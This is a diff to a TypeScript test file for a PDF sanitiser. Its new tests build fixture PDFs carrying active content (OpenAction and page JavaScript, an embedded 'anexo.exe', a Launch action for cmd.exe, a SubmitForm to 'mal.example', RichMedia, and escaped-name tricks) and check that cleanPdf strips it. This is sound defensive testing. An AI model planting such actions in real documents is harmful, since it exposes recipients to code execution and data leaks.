@@ -5,6 +5,7 @@
 import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
 import { PDFDocument as PdfLib, PDFHexString, PDFName, PDFString } from 'pdf-lib';
 import { makePdf as makeTestPdf } from '@cosems/test-support/pdf';
+import { listPdfActiveContent } from '@cosems/contracts';
 import { describe, expect, it } from 'vitest';
 import { checkPdf, cleanPdf } from '../src/index.ts';
 
@@ -123,6 +124,83 @@ describe('cleanPdf', () => {
       expect(limpo).toMatchObject({ tipo: 'pdf', paginas: 1, metadados: ['Autor: Procuradoria'], dados: 'assinado' });
       expect(limpo.tipo === 'pdf' && limpo.bytes.equals(enviado)).toBe(true);
     }
+  });
+
+  it('takes out active content: OpenAction JavaScript, page and field AA, JavaScript and EmbeddedFiles name trees, Launch, SubmitForm, RichMedia (issue 25, item 10)', async () => {
+    const doc = await PdfLib.create({ updateMetadata: false });
+    const pagina = doc.addPage([200, 200]);
+    pagina.drawText('Texto da pagina', { x: 10, y: 100, size: 12 });
+    const { context } = doc;
+    const js = (codigo: string) => context.obj({ S: 'JavaScript', JS: PDFString.of(codigo) });
+    doc.catalog.set(PDFName.of('OpenAction'), context.register(js('app.alert("aberto")')));
+    doc.catalog.set(PDFName.of('AA'), context.obj({ WC: js('app.alert("fechado")') }));
+    const anexo = context.register(context.flateStream('conteudo do anexo secreto', { Type: 'EmbeddedFile' }));
+    doc.catalog.set(
+      PDFName.of('Names'),
+      context.obj({
+        JavaScript: context.obj({ Names: [PDFString.of('init'), context.register(js('app.alert("init")'))] }),
+        EmbeddedFiles: context.obj({
+          Names: [PDFString.of('anexo.exe'), context.obj({ Type: 'Filespec', F: PDFString.of('anexo.exe'), EF: { F: anexo } })],
+        }),
+      }),
+    );
+    pagina.node.set(PDFName.of('AA'), context.obj({ O: js('app.alert("pagina")') }));
+    const lancar = context.obj({ Subtype: 'Link', Rect: [0, 0, 50, 50], A: { S: 'Launch', F: PDFString.of('cmd.exe') } });
+    const enviar = context.obj({ Subtype: 'Link', Rect: [50, 0, 100, 50], A: { S: 'SubmitForm', F: PDFString.of('https://mal.example') } });
+    const link = context.obj({
+      Subtype: 'Link',
+      Rect: [100, 0, 150, 50],
+      A: { S: 'URI', URI: PDFString.of('https://www.cosemsmg.org.br') },
+    });
+    const midia = context.obj({ Subtype: 'RichMedia', Rect: [150, 0, 200, 50], RichMediaContent: { Assets: {} } });
+    pagina.node.set(PDFName.of('Annots'), context.obj([lancar, enviar, link, midia].map((a) => context.register(a))));
+    const enviado = Buffer.from(await doc.save());
+    expect(listPdfActiveContent(enviado)).toEqual(expect.arrayContaining(['ObjStm']));
+    const semObjStm = Buffer.from(await doc.save({ useObjectStreams: false }));
+    expect(listPdfActiveContent(semObjStm)).toEqual([
+      'AA',
+      'EmbeddedFiles',
+      'JS',
+      'JavaScript',
+      'Launch',
+      'OpenAction',
+      'RichMedia',
+      'RichMediaContent',
+      'SubmitForm',
+    ]);
+
+    for (const pdf of [enviado, semObjStm]) {
+      const limpo = await cleanPdf(pdf);
+      expect(limpo).toMatchObject({ tipo: 'pdf', paginas: 1, dados: 'retirados' });
+      if (limpo.tipo !== 'pdf') return;
+      expect(listPdfActiveContent(limpo.bytes)).toEqual([]);
+      for (const resto of ['app.alert', 'cmd.exe', 'mal.example', 'anexo.exe', 'SubmitForm', 'Launch'])
+        expect(latin1(limpo.bytes)).not.toContain(resto);
+      // The page, its text and the plain link stay.
+      expect(await textos(limpo.bytes)).toEqual(['Texto da pagina']);
+      expect(latin1(limpo.bytes)).toContain('https://www.cosemsmg.org.br');
+    }
+    // A name written with #xx escapes is read as the name it stands for.
+    expect(listPdfActiveContent(Buffer.from('%PDF-1.7\n<< /J#61vaScript 1 0 R /Open#41ction 2 0 R /AAx 3 >>\n%%EOF', 'latin1'))).toEqual([
+      'JavaScript',
+      'OpenAction',
+    ]);
+  });
+
+  it('keeps a signed PDF with active content as sent: it reads as active, for the file route to serve it as an attachment', async () => {
+    const doc = await PdfLib.create({ updateMetadata: false });
+    doc.addPage([200, 200]);
+    const { context } = doc;
+    doc.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
+    context.register(context.obj({ Type: 'Sig', Filter: 'Adobe.PPKLite', ByteRange: [0, 10, 20, 10], Contents: PDFHexString.of('00') }));
+    const assinatura = context.register(
+      context.obj({ Type: 'Sig', Filter: 'Adobe.PPKLite', ByteRange: [0, 10, 20, 10], Contents: PDFHexString.of('00') }),
+    );
+    doc.catalog.set(PDFName.of('Assinatura'), assinatura);
+    const enviado = Buffer.from(await doc.save({ useObjectStreams: false }));
+    const limpo = await cleanPdf(enviado);
+    expect(limpo).toMatchObject({ tipo: 'pdf', dados: 'assinado' });
+    expect(limpo.tipo === 'pdf' && listPdfActiveContent(limpo.bytes)).toEqual(['JS', 'JavaScript', 'OpenAction']);
   });
 
   it('refuses what checkPdf refuses, with its message', async () => {
